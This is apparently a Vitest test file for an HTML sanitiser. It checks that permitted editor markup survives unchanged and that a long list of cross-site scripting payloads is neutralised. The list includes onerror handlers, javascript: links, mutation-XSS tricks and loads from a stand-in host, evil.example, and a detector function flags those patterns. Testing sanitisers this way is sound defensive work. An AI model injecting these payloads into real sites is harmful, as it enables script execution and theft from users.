import { describe, expect, it } from 'vitest'
import { shortestTime } from '#shared/testing/shortest-time.ts'
import { sanitiseHtml } from './sanitise.ts'

const FILE = 'AAAAAAAAAAAAAAAAAAAAAA'

describe('what gets through', () => {
  it.each([
    '<h2>One</h2><h3>Two</h3><p>Some <strong>bold</strong>, <em>italic</em>, <u>u</u>, <s>s</s> and <mark>marked</mark>.</p>',
    '<ul><li>a</li><li>b<ol start="3"><li>c</li></ol></li></ul>',
    '<table><thead><tr><th scope="col" colspan="2">A</th></tr></thead><tbody><tr><td rowspan="2">b</td></tr></tbody></table>',
    '<pre><code class="language-typescript">const a = 1 &lt; 2</code></pre>',
    '<aside class="callout callout-warning" data-type="callout"><p>Careful</p></aside>',
    '<div class="columns columns-2"><div class="column"><p>a</p></div><div class="column"><p>b</p></div></div>',
    '<details><summary>More</summary><div class="details-content"><p>less</p></div></details>',
    '<p><span data-type="formula" data-tex="\\frac{a}{b} &lt; 1"></span></p>',
    '<p>As we know<span data-type="footnote" data-note="See &lt;b&gt; &amp; “there”"></span>.</p>',
    '<p>a<span data-type="footnote" data-note=""></span></p><div data-type="formula" data-tex=""></div>',
    '<blockquote><p>Quote</p></blockquote><hr />',
    '<p>H<sub>2</sub>O, x<sup>2</sup>, <code>code</code></p>',
    '<p lang="fr" dir="ltr">Bonjour</p>',
    '<p dir="rtl">مرحبا</p>',
    '<ul dir="auto"><li dir="ltr">مرحبا</li></ul>',
  ])('%s', (html) => {
    expect(sanitiseHtml(html)).toBe(html)
  })

  it('pictures of our own, loaded when they come into view', () => {
    const picture = `<figure class="small"><img src="/api/v2/files/${FILE}/image?width=640" alt="A map" width="640" height="480" loading="lazy" /><figcaption>Map</figcaption></figure>`
    expect(sanitiseHtml(picture)).toBe(picture)
    expect(sanitiseHtml(`<img src="/api/v2/files/${FILE}/image">`)).toContain('alt=""')
  })

  it.each(['small left', 'medium right', 'small centre', 'centre'])('the look of a picture: %s', (look) => {
    const figure = `<figure class="${look}"><img src="/api/v2/files/${FILE}/image" alt="" loading="lazy" /><figcaption>A <em>map</em></figcaption></figure>`
    expect(sanitiseHtml(figure)).toBe(figure)
  })

  it('links, which open apart from the product', () => {
    const link = '<a href="https://example.org/a?b=1#c" rel="noopener noreferrer" target="_blank" title="t">x</a>'
    expect(sanitiseHtml('<a href="https://example.org/a?b=1#c" title="t" rel="opener" target="_top">x</a>')).toBe(
      '<a href="https://example.org/a?b=1#c" rel="noopener noreferrer" target="_blank" title="t">x</a>',
    )
    expect(sanitiseHtml(link)).toBe(link)
    expect(sanitiseHtml('<a href="mailto:a@example.org">x</a>')).toContain('href="mailto:a@example.org"')
  })

  it('the meaning of marks that have another name here', () => {
    expect(sanitiseHtml('<h1>a</h1><h6>b</h6><p><b>c</b><i>d</i><del>e</del></p>')).toBe(
      '<h2>a</h2><h4>b</h4><p><strong>c</strong><em>d</em><s>e</s></p>',
    )
  })
})

const TAGS =
  /^(?:h[234]|p|br|hr|blockquote|pre|ul|ol|li|strong|em|u|s|sub|sup|mark|code|a|span|table|thead|tbody|tfoot|tr|th|td|caption|colgroup|col|figure|figcaption|img|aside|div|details|summary)$/
const ATTRIBUTES =
  /^(?:href|title|rel|target|src|alt|width|height|loading|start|colspan|rowspan|scope|colwidth|span|data-type|data-tex|data-note|lang|dir|class)$/

/** Holds sanitised HTML against what may stand in it; anything that is not a plain tag of ours is a finding. */
function findings(html: string): string[] {
  const found: string[] = []
  const rest = html.replace(
    /<\/?([a-z0-9]+)((?:\s[a-z-]+="[^"<>]*")*)\s*\/?>/g,
    (_, tag: string, attributes: string) => {
      if (!TAGS.test(tag)) found.push(`<${tag}>`)
      for (const [, name = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
        if (!ATTRIBUTES.test(name)) found.push(name)
        if (name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)) found.push(`href ${value}`)
        if (
          name === 'src' &&
          !/^\/api\/v2\/files\/[\w-]{22}\/(?:image|poster|pages\/\d+)(?:\?width=\d+)?$/.test(value)
        ) {
          found.push(`src ${value}`)
        }
        if (name === 'class' && !/^(?:callout|columns|column|details-content|language-)/.test(value))
          found.push(`class ${value}`)
        if (name === 'class' && /fixed|evil/.test(value)) found.push(`class ${value}`)
      }
      return ''
    },
  )
  if (rest.includes('<')) found.push(`markup in ${rest}`)
  if (/evil\.example|logout|toggleFavori|\0/.test(html)) found.push(html)
  return found
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/favori.FavoriController/toggleFavori?idCour=1">',
  '<img src="/api/v2/files/../../user/speach/delete?id=1">',
  `<img src="/api/v2/files/${FILE}/image?width=1&x=/../../logout">`,
  `<img src="/api/v2/files/${FILE}/content">`,
  `<img srcset="https://evil.example/a 1x" src="/api/v2/files/${FILE}/image" onload=alert(1)>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;cript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="/logout">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<div onpointerenter=alert(1)>x</div>',
  '<div/onclick=alert(1)>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p data-x="&quot; onmouseover=alert(1) x=&quot;">x</p>',
  '<img alt="&quot; onerror=alert(1) x=&quot;" src=x>',
  '<span data-type="formula" data-tex="&quot;><img src=x onerror=alert(1)>"></span>',
  '<span data-type="footnote" data-note="&quot;><img src=x onerror=alert(1)>"></span>',
  '<span data-type="footnote" data-note="<script>alert(1)</script>"></span>',
  '<span data-type="footnote" data-note="x" data-href="javascript:alert(1)" onclick=alert(1)><script>alert(1)</script></span>',
  '<div data-type="x" onclick=alert(1)>x</div>',
  '<td background="javascript:alert(1)">x</td>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<p class="callout fixed evil">x</p>',
  '<figure class="fixed evil" style="width:9999px;float:left"><figcaption onclick=alert(1)>x</figcaption></figure>',
  '<p style="x">\0<scr\0ipt>alert(1)</scr\0ipt>',
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)//',
  '<p>unclosed <a href="javascript:alert(1)',
]

describe('what does not', () => {
  it.each(ATTACKS)('%j', (attack) => {
    expect(findings(attack)).not.toEqual([])
    expect(findings(sanitiseHtml(attack))).toEqual([])
  })

  it('changes nothing of its own result', () => {
    for (const attack of ATTACKS) {
      const clean = sanitiseHtml(attack)
      expect(sanitiseHtml(clean)).toBe(clean)
    }
  })

  it('classes, languages and block types that nobody here writes', () => {
    expect(sanitiseHtml('<aside class="callout evil" data-type="evil"><p class="x">a</p></aside>')).toBe(
      '<aside class="callout"><p>a</p></aside>',
    )
    expect(sanitiseHtml('<p lang="x y" dir="up">a</p>')).toBe('<p>a</p>')
    expect(sanitiseHtml('<td colspan="99999999">a</td>')).not.toContain('colspan')
  })

  it('notes that are longer than any, and notes of what is none', () => {
    expect(sanitiseHtml(`<span data-type="footnote" data-note="${'n'.repeat(2001)}"></span>`)).not.toContain('nnn')
    expect(sanitiseHtml('<p data-note="x">a</p><div data-type="footnote" data-note="x">b</div>')).not.toContain(
      'data-note',
    )
  })

  it('depth without end, while the words stay', () => {
    const clean = sanitiseHtml(`${'<div>'.repeat(20_000)}deep`)
    expect(clean).toContain('deep')
    expect(clean.length).toBeLessThan(1000)
  })

  it('a whole text of elements that never end, at once', async () => {
    const endless = `${'<b>'.repeat(160_000)}deep<br>words`
    // As nested elements, they would take seconds.
    expect(await shortestTime(() => expect(sanitiseHtml(endless)).toBe('deep words'))).toBeLessThan(1000)
    const items = '<li>item</li>'.repeat(25_000)
    expect(sanitiseHtml(`<ul>${items}</ul>`)).toBe(`<ul>${items}</ul>`)
  })
})
